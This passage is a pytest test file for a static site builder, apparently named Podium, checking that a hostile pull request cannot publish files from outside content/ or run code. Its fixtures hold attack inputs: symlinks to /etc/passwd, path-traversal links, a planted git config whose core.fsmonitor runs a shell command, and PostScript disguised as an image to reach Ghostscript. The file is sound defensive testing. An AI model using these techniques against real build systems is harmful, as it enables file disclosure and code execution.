"""The trust boundary (issue 11): content, arguments and the cache are untrusted.

``boundary.CASES`` run through the corpus check (exit status, one line each,
no traceback, previous output byte-identical). Then: a pull-request-style
build of a hostile branch publishes no byte from outside content/, the theme
or the build; ``podium build -o`` never replaces the project's folders;
``podium withdraw`` is all or nothing; the parse cache cannot run code.
"""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import pytest
from click.testing import CliRunner
from PIL import Image

from podium_cli.cli import main
from podium_testkit import ROOT, copy_site, snapshot

from . import boundary
from .boundary import BODY, gps_jpeg, story
from .corpus import Case
from .test_corpus import good_site, run_build  # noqa: F401 - good_site is a fixture
from .test_corpus import test_hostile_input as check_case


@pytest.mark.parametrize("case", boundary.CASES, ids=lambda c: c.id)
def test_trust_boundary_case(case: Case, good_site: Path, tmp_path, monkeypatch):  # noqa: F811
    check_case(case, good_site, tmp_path, monkeypatch)


def test_boundary_case_ids_are_unique():
    assert len({c.id for c in boundary.CASES}) == len(boundary.CASES) >= 25


def test_a_symlink_loop_is_one_line_and_fast(good_site, tmp_path, monkeypatch):  # noqa: F811
    site = tmp_path / "site"
    shutil.copytree(good_site, site, symlinks=True)
    (site / "content" / "columns" / "loop").symlink_to(".")
    (site / "content" / "columns" / "deeper").mkdir()
    (site / "content" / "columns" / "deeper" / "up").symlink_to("..")
    scanned = []
    real = os.scandir

    def scandir(path="."):
        if not isinstance(path, int):  # a folder's descriptor is read as well
            scanned.append(os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    status, output = run_build(site, monkeypatch)
    monkeypatch.setattr(os, "scandir", real)
    assert status == 1 and "Traceback" not in output
    errors = [line for line in output.splitlines() if ": error: " in line]
    assert errors == [
        "content/columns/deeper/up: error: this entry is a symlink to a folder; "
        "Podium does not follow folder links",
        "content/columns/loop: error: this entry is a symlink to a folder; "
        "Podium does not follow folder links",
    ]
    # Before: 18 s of walking the loop, then a crash. Validation stops it at
    # once: no folder is read through either link.
    parts = [Path(p).parts for p in scanned]
    assert parts and not [p for p in parts if "loop" in p or "up" in p]


@pytest.mark.parametrize("link", ["columns/kopie.md", "interviews/kopie.md"])
def test_a_story_linked_to_another_story_names_the_link(good_site, tmp_path, monkeypatch, link):  # noqa: F811
    """A story file that is a symlink to another story in content/ was read as
    that story: one slug "is also used by " nobody, blamed on two Unicode forms
    of one name, and the link itself named nowhere."""
    site = tmp_path / "site"
    shutil.copytree(good_site, site, symlinks=True)
    target = site / "content" / "columns" / "ben-bakker.md"
    (site / "content" / link).symlink_to(target)
    before = snapshot(site / "output")
    status, output = run_build(site, monkeypatch)
    assert status == 1 and "Traceback" not in output
    errors = [line for line in output.splitlines() if ": error: " in line]
    assert errors == [
        f"content/{link}: error: is a symlink to content/columns/ben-bakker.md: a story is a "
        "file of its own; delete the link (to give the story a second address, list the old "
        'one under its "aliases"), or copy the file and make it a story of its own'
    ]
    assert snapshot(site / "output") == before


def test_an_svg_the_build_cannot_clean_is_the_same_error_in_check_on_the_links_line(
    good_site,  # noqa: F811
    tmp_path,
    monkeypatch,
):
    """``podium check`` (the pull request's gate) held a linked SVG to
    ``svg_problem`` alone, and passed one whose comments or RDF creator cannot
    be cut (UTF-16: the cut is made in the bytes); the build then refused it
    with no line."""
    site = tmp_path / "site"
    shutil.copytree(good_site, site, symlinks=True)
    drawing = boundary.CLEAN_SVG.replace("<rect", "<!-- door Anna --><rect")
    (site / "content" / "images").mkdir(exist_ok=True)
    (site / "content" / "images" / "logo.svg").write_bytes(drawing.encode("utf-16"))
    (site / "content" / "columns" / "hostile.md").write_text(
        story(body=BODY + "\n![logo]({static}/images/logo.svg)\n"), "utf-8"
    )
    said = (
        f"content/columns/hostile.md:{boundary.LINK_LINE}: error: link to "
        "content/images/logo.svg: the file is an SVG whose metadata cannot be taken out; "
        "save it as Optimized SVG"
    )
    monkeypatch.chdir(site)
    checked = CliRunner().invoke(main, ["check"], catch_exceptions=False)
    assert checked.exit_code == 1 and said in checked.output.splitlines(), checked.output
    status, output = run_build(site, monkeypatch)
    assert status == 1 and [ln for ln in output.splitlines() if ": error: " in ln] == [said]


def _refused(site: Path, monkeypatch) -> list[str]:
    """The error lines of a build of ``site`` that fails, its output left as it was."""
    before = snapshot(site / "output")
    status, output = run_build(site, monkeypatch)
    assert status == 1 and "Traceback" not in output, output
    assert snapshot(site / "output") == before
    return [line for line in output.splitlines() if ": error: " in line]


def test_content_itself_as_a_link_out_of_the_project_is_refused(
    good_site,  # noqa: F811
    tmp_path,
    monkeypatch,
):
    """A pull request can replace content/ with a symlink (git stores one). Every
    check kept files inside the folder it points at, so a folder elsewhere on the
    build machine became the content root: walked whole (a link to / walked the
    disk), and its files published. A story there links a private drawing."""
    site = tmp_path / "site"
    shutil.copytree(good_site, site, symlinks=True)
    elsewhere = tmp_path / "home"
    shutil.move(site / "content", elsewhere)
    (elsewhere / "private").mkdir()
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><title>PRIVATE-PLAN</title></svg>'
    (elsewhere / "private" / "plan.svg").write_text(drawing, encoding="utf-8")
    (elsewhere / "columns" / "plan.md").write_text(
        story(body=BODY + "\n[Plan]({static}/private/plan.svg)\n"), encoding="utf-8"
    )
    (site / "content").symlink_to(elsewhere, target_is_directory=True)
    assert _refused(site, monkeypatch) == [
        "content: error: this entry is a symlink to a folder; Podium does not follow folder "
        "links, content/ included: make content/ a folder of the project"
    ]
    published = [p for p in (site / "output").rglob("*") if p.is_file()]
    assert not any(b"PRIVATE-PLAN" in p.read_bytes() for p in published)


def _plant_repository(folder: Path, marker: Path) -> None:
    """A git repository's own files in ``folder`` (git carries them as any
    others), whose config names a program for git to start: ``marker`` written."""
    seed = folder.parent / ".seed"
    who = ["-c", "user.name=t", "-c", "user.email=t@example.com"]
    subprocess.run(["git", "init", "-q", str(seed)], check=True)
    (seed / "f.txt").write_text("f", encoding="utf-8")
    for args in (["add", "f.txt"], [*who, "commit", "-qm", "seed"]):  # a history to log
        subprocess.run(["git", "-C", str(seed), *args], check=True, capture_output=True)
    for name in ("HEAD", "objects", "refs"):
        source = seed / ".git" / name
        if source.is_dir():
            shutil.copytree(source, folder / name)
        else:
            shutil.copy(source, folder / name)
    shutil.rmtree(seed)
    (folder / "config").write_text(
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n"
        f'\tfsmonitor = "echo RAN > {marker}; false"\n',
        encoding="utf-8",
    )


def test_a_repository_planted_in_content_runs_nothing_and_is_refused(
    good_site,  # noqa: F811
    tmp_path,
    monkeypatch,
):
    """A pull request put HEAD, config, objects/ and refs/ in content/. The build
    asks git for each story's last commit day from content/, and git took the
    folder for a repository of its own: `git status` started the program its
    config named (core.fsmonitor), with the build's environment. Now podium
    check and the build refuse those files, and git is never asked from
    content/ (nor starts a config's program) even where they get past."""
    from podium_render.freshness import GitDates

    site = tmp_path / "site"
    shutil.copytree(good_site, site, symlinks=True)
    marker = tmp_path / "ran"
    _plant_repository(site / "content", marker)
    who = ["-c", "user.name=t", "-c", "user.email=t@example.com"]
    for args in (["init", "-q"], ["add", "-A"], [*who, "commit", "-qm", "the pull request"]):
        subprocess.run(["git", "-C", str(site), *args], check=True, capture_output=True)
    assert _refused(site, monkeypatch) == [
        "content/HEAD: error: this entry is a git repository's HEAD, beside objects/ and "
        "refs/: git would take this folder for a repository and read its config, which can "
        "start any program; delete HEAD, config, objects/ and refs/ here"
    ]
    assert not marker.exists()
    # The dates step alone (the check passed some other way): the project's
    # repository is used, and the planted one's program never starts.
    dates = GitDates(site / "content")
    assert not marker.exists(), "git started the planted config's program"
    assert dates.ok and dates.date(site / "content" / "interviews" / "anna-de-boer.md")


# PostScript saved as .jpg or .png: Pillow tells a format by the bytes, and
# decoding EPS hands the file to Ghostscript, another program on the build
# machine (with a record of -dSAFER escapes). No pull request may reach it.
POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 80\n%%EndComments\nshowpage\n"
NOT_AN_IMAGE = "is not an image Pillow can read (expected JPEG, PNG or WebP)"


@pytest.mark.parametrize(
    ("files", "expect"),
    [
        (
            {
                "content/images/people/p.jpg": POSTSCRIPT,
                boundary.STORY: story(extra="photo: images/people/p.jpg\n"),
            },
            f'{boundary.S}7: error: field "photo": content/images/people/p.jpg {NOT_AN_IMAGE}',
        ),
        (
            {
                "content/images/a.jpg": POSTSCRIPT,
                boundary.STORY: boundary.body("![x]({static}/images/a.jpg)"),
            },
            f"{boundary.S}{boundary.LINK_LINE}: error: link to content/images/a.jpg: "
            f"the file {NOT_AN_IMAGE}",
        ),
        (
            {"content/brand/logo.png": POSTSCRIPT},
            f"content/brand/logo.png: error: brand file {NOT_AN_IMAGE}",
        ),
    ],
    ids=["photo", "linked-image", "brand-file"],
)
def test_postscript_posing_as_an_image_never_reaches_ghostscript(
    files, expect, good_site, tmp_path, monkeypatch  # noqa: F811
):  # fmt: skip
    from PIL import EpsImagePlugin

    ran = tmp_path / "ghostscript-ran"
    gs = tmp_path / "gs"
    gs.write_text(f'#!/bin/sh\necho "$@" >> {shlex.quote(str(ran))}\n', "utf-8")
    gs.chmod(0o755)
    # As on a CI runner, where Ghostscript is installed: Pillow would call it.
    monkeypatch.setattr(EpsImagePlugin, "gs_binary", str(gs))
    check_case(Case("postscript", files, (expect,)), good_site, tmp_path, monkeypatch)
    assert not ran.exists(), ran.read_text()


# -- a pull-request build of a hostile branch ---------------------------------------------

CANARY = b"PODIUM-CANARY-7f3a91 this file lives outside content/ and must never be published\n"


def _hostile_branch(site: Path, outside: Path) -> list[Path]:
    """Every way a story may try to publish files from outside content/ at once.

    Returns the files outside content/ that the attacks aim at.
    """
    canary = outside / "secret.txt"
    canary.write_bytes(CANARY)
    content = site / "content"
    (content / "brand").mkdir()
    (content / "brand" / "secret.txt").symlink_to(canary)
    (content / "brand" / "passwd").symlink_to("/etc/passwd")
    (content / "images").mkdir()
    gps_jpeg(site, content / "images" / "gps.jpg")
    (content / "images" / "logo.svg").write_text(boundary.SCRIPT_SVG, "utf-8")
    (content / "images" / "zero.jpg").symlink_to("/dev/zero")
    (content / "images" / "canary.jpg").symlink_to(canary)
    (content / "columns" / "canary.md").symlink_to(canary)
    (content / "columns" / "loop").symlink_to(".")
    links = "\n\n".join(
        [
            "[instellingen]({attach}../../pelicanconf.py)",
            "[host]({attach}../../../../../../../../etc/hostname)",
            f"[geheim]({{attach}}../../../{outside.name}/secret.txt)",
            "[uit]({static}/../x.txt)",
            "![svg]({static}/images/logo.svg)",
            "![gps]({static}/images/gps.jpg)",
            "![nul]({static}/images/zero.jpg)",
            "![kanarie]({static}/images/canary.jpg)",
            '<img src="https://tracker.example.com/pixel.gif" alt="">',
        ]
    )
    front = (
        "title: Een verhaal over werk\ndate: 2026-04-10\nauthor: Test Persoon\nrole: Tester\n"
        "consent: {given: 2026-04-01}"
    )
    (content / "columns" / "hostile.md").write_text(
        story(front, "photo: images/canary.jpg\n", BODY + "\n" + links + "\n"), "utf-8"
    )
    targets = [canary, site / "pelicanconf.py", Path("/etc/passwd"), Path("/etc/hostname")]
    return [t for t in targets if t.is_file()]


def _assert_nothing_from(output: Path, targets: list[Path]) -> None:
    secrets = {t: t.read_bytes() for t in targets}
    for path in output.rglob("*"):
        if not path.is_file() or path.is_symlink() and not path.resolve().is_relative_to(output):
            assert not path.is_symlink(), f"{path} is a symlink out of the output"
            continue
        data = path.read_bytes()
        assert CANARY.strip() not in data, f"{path} carries the canary"
        for target, secret in secrets.items():
            assert data != secret, f"{path} is a copy of {target}"
            if len(secret) > 64:
                assert secret not in data, f"{path} contains {target}"


def test_a_hostile_pull_request_publishes_nothing_from_outside(tmp_path, monkeypatch):
    outside = tmp_path / "runner-home"
    outside.mkdir()
    site = copy_site(tmp_path / "pr")
    targets = _hostile_branch(site, outside)
    before_content = snapshot(site / "content")
    before_outside = snapshot(outside)

    # 1. The whole branch: refused, one line per attack, nothing written.
    monkeypatch.chdir(site)
    result = CliRunner().invoke(main, ["build", "-q", "-o", "preview"], catch_exceptions=False)
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    errors = [line for line in result.output.splitlines() if ": error: " in line]
    assert len(errors) >= 10, result.output
    assert not (site / "preview").exists()
    assert [p.name for p in site.iterdir() if p.name.startswith(".preview")] == []

    # 2. Each attack that Podium neutralises rather than refuses, built for real:
    # the GPS photo (re-encoded) and a clean SVG are all the preview gets.
    for link in ("brand/secret.txt", "brand/passwd", "columns/canary.md", "columns/loop"):
        (site / "content" / link).unlink()
    for name in ("zero.jpg", "canary.jpg"):
        (site / "content" / "images" / name).unlink()
    (site / "content" / "images" / "logo.svg").write_text(boundary.CLEAN_SVG, "utf-8")
    (site / "content" / "columns" / "hostile.md").write_text(
        story(
            body=BODY + "\n![gps]({static}/images/gps.jpg)\n\n![svg]({static}/images/logo.svg)\n"
        ),
        "utf-8",
    )
    result = CliRunner().invoke(main, ["build", "-q", "-o", "preview"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    preview = site / "preview"
    _assert_nothing_from(preview, targets + [site / "content" / "images" / "gps.jpg"])
    published = {p.relative_to(preview).as_posix() for p in preview.rglob("*") if p.is_file()}
    theme_files = {p.name for p in (ROOT / "theme").rglob("*") if p.is_file()}
    foreign = sorted(
        p
        for p in published
        # Everything is a page the build wrote, a cleaned media file, or the theme's.
        if not (
            p.endswith((".html", ".xml", ".json", ".webp", ".jpg", ".png", ".txt", ".svg"))
            or p.startswith(("theme/", "pagefind/"))
            or Path(p).name in theme_files
            or p == ".podium-output"
        )
    )
    assert foreign == []
    assert (preview / "media" / "images" / "gps.jpg").is_file()
    original = (site / "content" / "images" / "gps.jpg").read_bytes()
    assert (preview / "media" / "images" / "gps.jpg").read_bytes() != original
    assert snapshot(outside) == before_outside
    changed = snapshot(site / "content")
    assert set(changed) - set(before_content) == set()


# -- the output folder ------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path, monkeypatch):
    site = copy_site(tmp_path)
    monkeypatch.chdir(site)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    return site


def _build(*args: str):
    return CliRunner().invoke(main, ["build", "-q", *args], catch_exceptions=False)


def _check():
    return CliRunner().invoke(main, ["check"], catch_exceptions=False)


def _settings(project: Path, lines: str) -> None:
    """``lines`` added to the end of the project's pelicanconf.py."""
    conf = project / "pelicanconf.py"
    conf.write_text(conf.read_text("utf-8") + lines, "utf-8")


@pytest.mark.parametrize(
    "target, message",
    [
        (".", "output folder is the project folder"),
        ("..", "output folder contains the project folder"),
        ("content", "output folder is content/"),
        ("content/columns", "output folder is inside content/"),
        ("pelicanconf.py", "output folder is the settings file"),
        ("HOME", "output folder is the home folder"),
        ("THEME", "output folder is the theme"),
        ("PLUGINS", "output folder is the plugins"),
        ("/", "output folder contains"),
    ],
)
def test_build_refuses_an_output_that_would_eat_the_project(project, target, message):
    target = {
        "HOME": os.environ["HOME"],
        "THEME": str(ROOT / "theme"),
        "PLUGINS": str(ROOT / "plugins"),
    }.get(target, target)
    before = snapshot(project)
    theme_before = snapshot(ROOT / "theme")
    result = _build("-o", target)
    assert result.exit_code == 2, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and message in lines[0] and ": error: " in lines[0], result.output
    assert snapshot(project) == before
    assert snapshot(ROOT / "theme") == theme_before


@pytest.mark.parametrize("target", ["notes.txt/site", "notes.txt/a/b"])
def test_an_output_below_a_file_is_one_line_naming_the_file(project, target):
    # It was "notes.txt: error: cannot write the output: File exists", exit 1.
    (project / "notes.txt").write_text("mijn aantekeningen", "utf-8")
    result = _build("-o", target)
    assert result.exit_code == 2, result.output
    assert result.output.splitlines() == [
        f"{project / target}: error: output folder would be inside {project / 'notes.txt'}, "
        "which is a file, not a folder; choose another"
    ]
    assert (project / "notes.txt").read_text("utf-8") == "mijn aantekeningen"


def test_build_refuses_a_folder_it_did_not_write(project):
    other = project / "mine"
    other.mkdir()
    (other / "notes.txt").write_text("mijn aantekeningen", "utf-8")
    result = _build("-o", "mine")
    assert result.exit_code == 2
    assert "is not empty and was not written by Podium (no .podium-output file)" in result.output
    assert (other / "notes.txt").read_text("utf-8") == "mijn aantekeningen"
    assert sorted(p.name for p in other.iterdir()) == ["notes.txt"]


def test_an_empty_folder_is_built_into(project):
    """An empty folder (made by hand or by a CI step) passes the check before the
    build; the swap then refused it: "output folder lost its .podium-output file"."""
    (project / "public").mkdir()
    result = _build("-o", "public")
    assert result.exit_code == 0, result.output
    assert (project / "public" / ".podium-output").is_file()
    assert (project / "public" / "index.html").is_file()
    assert [p.name for p in project.iterdir() if p.name.startswith(".public")] == []


def test_delete_output_directory_keeps_the_marker(project):
    """publishconf.py sets DELETE_OUTPUT_DIRECTORY: Pelican emptied the build's folder,
    marker and all, so a second `podium build -s publishconf.py` refused the first's
    output ("was not written by Podium")."""
    conf = project / "pelicanconf.py"
    conf.write_text(conf.read_text("utf-8") + "\nDELETE_OUTPUT_DIRECTORY = True\n", "utf-8")
    assert _build().exit_code == 0
    assert (project / "output" / ".podium-output").is_file()
    again = _build()
    assert again.exit_code == 0, again.output


def test_every_output_carries_the_marker_and_is_replaced(project):
    assert _build().exit_code == 0
    marker = project / "output" / ".podium-output"
    assert "podium build" in marker.read_text("utf-8")
    assert _build().exit_code == 0  # its own output: replaced
    (project / "output" / ".podium-output").unlink()
    result = _build()
    assert result.exit_code == 2 and "was not written by Podium" in result.output


def test_leftovers_of_killed_builds_are_removed(project):
    assert _build().exit_code == 0
    dead = 2**22 + 12345  # above the default pid_max: no such process
    for name in (f".output.build-{dead}-x1", f".output.old-{dead}-x2"):
        (project / name).mkdir()
        (project / name / ".podium-output").write_text("", "utf-8")
        (project / name / "index.html").write_text("oud", "utf-8")
    unmarked = project / f".output.build-{dead}-nomarker"
    unmarked.mkdir()
    assert _build().exit_code == 0
    left = sorted(p.name for p in project.iterdir() if p.name.startswith(".output"))
    # Only folders carrying the marker are deleted; the output this build
    # replaced waits beside it for the next build's sweep.
    assert left[0] == unmarked.name and len(left) == 2, left
    assert left[1].startswith(f".output.old-{os.getpid()}-")


@pytest.mark.parametrize("name", [".output.build-\u00b2-x", ".output.old-\u00b3-x"])
def test_a_folder_named_like_a_leftover_with_no_pid_is_left_alone(project, name):
    # "²" is a digit to str.isdigit() but no number to int(): such a folder
    # beside the output ended every build in "podium: error: ValueError:
    # invalid literal for int() with base 10: '²'".
    (project / name).mkdir()
    (project / name / ".podium-output").write_text("", "utf-8")
    result = _build()
    assert result.exit_code == 0, result.output
    assert "podium: error:" not in result.output
    assert (project / name).is_dir()


def test_the_replaced_output_is_removed_by_the_next_build(project):
    """The previous output is moved aside, whole, and the next build removes it."""
    assert _build().exit_code == 0
    first = (project / "output" / "index.html").read_bytes()
    assert _build().exit_code == 0
    (old,) = [p for p in project.iterdir() if p.name.startswith(".output.old-")]
    assert (old / "index.html").read_bytes() == first and (old / ".podium-output").is_file()
    assert _build().exit_code == 0
    (newer,) = [p for p in project.iterdir() if p.name.startswith(".output.old-")]
    assert not old.exists() and newer != old
    assert [p.name for p in project.iterdir() if p.name.startswith(".output.build-")] == []


def test_an_old_output_the_sweep_cannot_remove_is_a_one_line_warning(project, monkeypatch, caplog):
    import podium_cli.build as build_module

    assert _build().exit_code == 0
    assert _build().exit_code == 0
    (newest,) = [p for p in project.iterdir() if p.name.startswith(".output.old-")]
    # The next build writes into the newest previous output (podium.recycled) and
    # sweeps the others: an older one, of a build long gone.
    old = project / f".output.old-{2**22 + 12345}-x"
    old.mkdir()
    (old / ".podium-output").write_text("", "utf-8")
    os.utime(old, (newest.stat().st_mtime - 60,) * 2)
    # The tests may run as root, for whom no permission stops a removal: the
    # sweep is made to fail instead (it removes nothing and names what is left).
    fails = "import os, sys\nfor p in sys.argv[1:]:\n    os.path.lexists(p) and print(p)\n"
    monkeypatch.setattr(build_module, "_SWEEP", fails)
    result = CliRunner().invoke(main, ["build"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    lines = [r.getMessage() for r in caplog.records if "could not remove" in r.getMessage()]
    assert lines == [f"{old}: warning: could not remove an earlier build's output folder"]
    assert old.is_dir() and not newest.exists()


def test_a_killed_build_leaves_a_folder_the_next_build_removes(project):
    """A real kill: the build process gets SIGKILL half way, the next build cleans up."""
    script = (
        "import os, signal, sys\n"
        "from pelican import Pelican\n"
        "def die(self): os.kill(os.getpid(), signal.SIGKILL)\n"
        "Pelican.run = die\n"
        "from podium_cli.cli import main\n"
        "sys.argv = ['podium', 'build', '-q']\n"
        "main()\n"
    )
    subprocess.run([sys.executable, "-c", script], cwd=project, check=False)
    assert [p.name for p in project.iterdir() if p.name.startswith(".output.build-")]
    assert _build().exit_code == 0
    assert [p.name for p in project.iterdir() if p.name.startswith(".output.")] == []


def test_a_killed_builds_private_cache_in_the_temporary_folder_is_removed(project, monkeypatch):
    """A build whose .podium-cache/ cannot be used (a symlink, a read-only folder)
    uses an empty one of its own in the system's temporary folder, removed when it
    ends. Killed outright (SIGKILL, the OOM killer), it left podium-cache-XXXXXXXX
    there for good, a full cache of cards and photos each time. The folder now
    carries the process id, and the next build removes those whose process is
    gone: only names it gives, never one of a process still running, nor one
    whose owner lock is held (a build in another process namespace)."""
    import tempfile

    systmp = project.parent / "systmp"
    systmp.mkdir()
    elsewhere = project.parent / "elsewhere"
    elsewhere.mkdir()
    (project / ".podium-cache").symlink_to(elsewhere, target_is_directory=True)
    script = (
        "import os, signal\n"
        "from pelican import Pelican\n"
        "def die(self): os.kill(os.getpid(), signal.SIGKILL)\n"
        "Pelican.run = die\n"
        "from podium_cli.cli import main\n"
        "main(['build', '-q'], prog_name='podium')\n"
    )
    env = {**os.environ, "TMPDIR": str(systmp)}
    killed = subprocess.Popen([sys.executable, "-c", script], cwd=project, env=env)
    assert killed.wait(timeout=300) == -signal.SIGKILL
    left = [p.name for p in systmp.iterdir() if p.name.startswith("podium-cache-")]
    assert left and all(name.startswith(f"podium-cache-{killed.pid}-") for name in left), left
    kept = [
        systmp / f"podium-cache-{os.getppid()}-a1b2c3d4",  # a build still running
        systmp / "podium-cache-notes",  # not a name Podium gives
        systmp / f"podium-cache-{killed.pid}-mine",
    ]
    for folder in kept:
        folder.mkdir()
    # A build in another container sharing /tmp: its process id means nothing
    # here (it looks gone), but it holds its folder's owner lock.
    other_ns = systmp / f"podium-cache-{killed.pid}-otherns1"
    other_ns.mkdir()
    held = os.open(other_ns / ".owner.lock", os.O_WRONLY | os.O_CREAT, 0o600)
    fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
    kept.append(other_ns)
    monkeypatch.setattr(tempfile, "tempdir", str(systmp))
    try:
        assert _build().exit_code == 0
    finally:
        os.close(held)
    after = sorted(p.name for p in systmp.iterdir() if p.name.startswith("podium-cache-"))
    assert not [name for name in after if name in left]
    assert all(folder.is_dir() for folder in kept)


def test_a_build_killed_while_pagefind_runs_leaves_a_folder_the_next_build_removes(project):
    """SIGKILL (the OOM killer, a runner shut down) while Pagefind indexed: its
    working folder, .pagefind-*, stayed beside the output for good (the next
    build swept only the .output.* folders). It carries the build's process
    id now, and the next build removes it with those."""
    script = (
        "import os, signal, podium_index.plugin as p\n"
        "def die(*args, **kwargs): os.kill(os.getpid(), signal.SIGKILL)\n"
        "p._start_pagefind = die\n"
        "from podium_cli.cli import main\n"
        "main(['build', '-q'], prog_name='podium')\n"
    )
    subprocess.run([sys.executable, "-c", script], cwd=project, check=False, timeout=300)
    assert [p.name for p in project.iterdir() if p.name.startswith(".pagefind-")]
    running = project / f".pagefind-{os.getppid()}-x1"  # of a build still running: kept
    running.mkdir()
    assert _build().exit_code == 0
    left = [p.name for p in project.iterdir() if p.name.startswith((".pagefind-", ".output."))]
    assert left == [running.name]


def test_a_folder_of_ones_own_named_like_a_pagefind_working_folder_is_kept(project):
    """The sweep took any .pagefind-NUMBER-* folder beside the output for a killed
    build's, by its name alone: a folder of the user's so named went, files and all.
    Pagefind's working folder now carries the marker, as .output.* folders do."""
    dead = 2**22 + 12345  # above the default pid_max: no such process
    mine = project / f".pagefind-{dead}-notes"
    mine.mkdir()
    (mine / "notes.txt").write_text("mijn aantekeningen", "utf-8")
    assert _build().exit_code == 0
    assert (mine / "notes.txt").read_text("utf-8") == "mijn aantekeningen"
    marked = project / f".pagefind-{dead}-a1b2c3d4"  # a killed build's, as written now
    (marked / "site-nl-1").mkdir(parents=True)
    (marked / ".podium-output").write_text("", "utf-8")
    assert _build().exit_code == 0
    assert not marked.exists() and mine.is_dir()


def test_working_folders_left_by_an_older_podium_are_removed_once_a_day_old(project):
    """Builds before 9a2727e named Pagefind's working folder .pagefind-XXXXXXXX (no
    process id), and later ones until the marker .pagefind-PID-XXXXXXXX without a
    marker: killed outright, they stayed beside the output for good, holding a copy
    of every page. One holding only what Podium's Pagefind runs make, untouched
    for a day (no build of any version runs that long), is removed now; anything
    else of that name is left alone."""
    dead = 2**22 + 12345
    day_old = time.time() - 2 * 86400

    def left(name, entries=("site-nl-1", "bundle-nl-1", "reference", "reference-site"),
             when=day_old):  # fmt: skip
        folder = project / name
        for entry in entries:
            (folder / entry).mkdir(parents=True)
            if entry.startswith("site"):
                (folder / entry / "index.html").write_text("<p>Anna</p>", "utf-8")
        folder.mkdir(exist_ok=True)
        os.utime(folder, (when, when))
        return folder

    gone = [left(".pagefind-k2j_h5g6"), left(f".pagefind-{dead}-x9y8z7w6"),
            left(".pagefind-abcdefgh", entries=("site-nl", "bundle-nl"))]  # fmt: skip
    kept = [
        left(".pagefind-q1w2e3r4", when=time.time()),  # a build of an older Podium may run
        left(".pagefind-notes123", entries=("site-nl-1", "notes")),  # not only Pagefind's
        left(".pagefind-my-notes-from-2025"),  # not a name tempfile gives
    ]
    (kept[1] / "notes" / "plan.txt").write_text("mijn plan", "utf-8")
    assert _build().exit_code == 0
    assert [g.name for g in gone if g.exists()] == []
    assert [k.name for k in kept if not k.is_dir()] == []
    assert (kept[1] / "notes" / "plan.txt").read_text("utf-8") == "mijn plan"


@pytest.mark.parametrize(
    ("signum", "status", "message"),
    [
        (signal.SIGTERM, 143, "podium: error: the build was terminated (SIGTERM)"),
        # Ctrl-C printed click's "Aborted!" and exited 1, like a failed build.
        (signal.SIGINT, 130, "podium: error: interrupted (Ctrl-C)"),
    ],
    ids=["SIGTERM", "SIGINT"],
)
def test_a_signal_ends_a_build_with_nothing_left_beside_the_output(
    project, signum, status, message
):
    """A cancelled CI job or `timeout` sends SIGTERM: the build died at once, and
    left a .pagefind-* folder (and a Pagefind run) beside the output that no later
    build removed. It now stops as after Ctrl-C: its folders removed, exit 143."""
    assert _build().exit_code == 0
    before = snapshot(project / "output")
    script = (
        "import sys, podium_index.plugin as p\n"
        "p.pagefind_command = lambda: (sys.executable, '-c', 'import time; time.sleep(120)')\n"
        "from podium_cli.cli import main\n"
        "main(['build', '-q'], prog_name='podium')\n"
    )
    started = lambda: any(p.name.startswith(".pagefind-") for p in project.iterdir())  # noqa: E731
    assert _signalled(script, project, started, signum) == (status, [message])
    left = [p.name for p in project.iterdir() if p.name.startswith((".pagefind-", ".output."))]
    assert left == []
    assert snapshot(project / "output") == before


def test_ctrl_c_while_the_command_line_loads_is_one_line(tmp_path):
    """Ctrl-C in the first half second of `podium build`, while Pelican, Jinja and
    Pillow load, printed a traceback through the imports: the handler that says
    the one line was not loaded yet. The entry point pip's script calls
    (pyproject.toml) now loads them under its own."""
    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    assert pyproject["project"]["scripts"]["podium"] == "podium_cli.entry:main"
    script = (
        "import pathlib, sys, time\n"
        "class Slow:  # the command line's modules take a minute to load\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'podium_cli.cli':\n"
        "            pathlib.Path('loading').write_text('')\n"
        "            time.sleep(60)\n"
        "sys.meta_path.insert(0, Slow())\n"
        "sys.argv = ['podium', 'build', '-q']\n"
        "from podium_cli.entry import main\n"
        "main()\n"
    )
    loading = (tmp_path / "loading").exists
    assert _signalled(script, tmp_path, loading, signal.SIGINT) == (
        130,
        ["podium: error: interrupted (Ctrl-C)"],
    )


def _signalled(script: str, cwd: Path, ready, signum) -> tuple[int, list[str]]:
    """``script`` run in a Python of its own, sent ``signum`` once ``ready()``:
    its exit status and the lines it wrote to stderr."""
    proc = subprocess.Popen(
        [sys.executable, "-c", script], cwd=cwd, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while not ready():
        assert proc.poll() is None and time.monotonic() < deadline, "never got there"
        time.sleep(0.02)
    proc.send_signal(signum)
    _, err = proc.communicate(timeout=60)
    return proc.returncode, err.splitlines()


@pytest.mark.parametrize(
    ("signum", "status"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)], ids=["SIGTERM", "SIGINT"]
)
def test_a_signal_during_the_swap_never_leaves_the_hub_without_an_output(project, signum, status):
    """The swap renames the previous output aside, then the new one in: a signal
    between the two renames (Ctrl-C, a cancelled CI job) ended the build there,
    with no output/ at all (the web server serving it answered 404 for every
    page) and the previous site in a .output.old-* folder the next build deletes.
    The two renames are now one step a signal waits for."""
    assert _build().exit_code == 0
    before = snapshot(project / "output")
    script = (
        "import os, signal\n"
        "real = os.replace\n"
        "def replace(src, dst, *args, **kwargs):\n"
        "    real(src, dst, *args, **kwargs)\n"
        "    if '.output.old-' in str(dst):  # the previous output is aside\n"
        f"        os.kill(os.getpid(), {int(signum)})\n"
        "os.replace = replace\n"
        "from podium_cli.cli import main\n"
        "main(['build', '-q'], prog_name='podium')\n"
    )
    proc = subprocess.run(
